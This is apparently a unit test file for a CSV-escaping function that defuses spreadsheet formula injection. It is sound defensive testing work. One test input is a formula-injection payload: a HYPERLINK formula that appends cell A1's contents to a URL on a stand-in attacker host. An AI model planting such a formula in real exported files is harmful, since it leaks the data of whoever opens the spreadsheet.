// Spreadsheet-safe CSV: answers that a spreadsheet would run as formulas are
// neutralised (OWASP: a leading single quote, the cell quoted); numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { csvField } from '../../src/report/format.js';

describe('CSV cells', () => {
  it('text beginning with = + - @, tab or carriage return gets a leading quote and is quoted', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csvField('+1+1')).toBe(`"'+1+1"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves other text, numbers, null and JSON alone', () => {
    expect(csvField('answer: 2')).toBe('answer: 2');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(null)).toBe('');
    expect(csvField({ a: 1 })).toBe('"{""a"":1}"');
    expect(csvField(' =not first')).toBe(' =not first');
  });
});
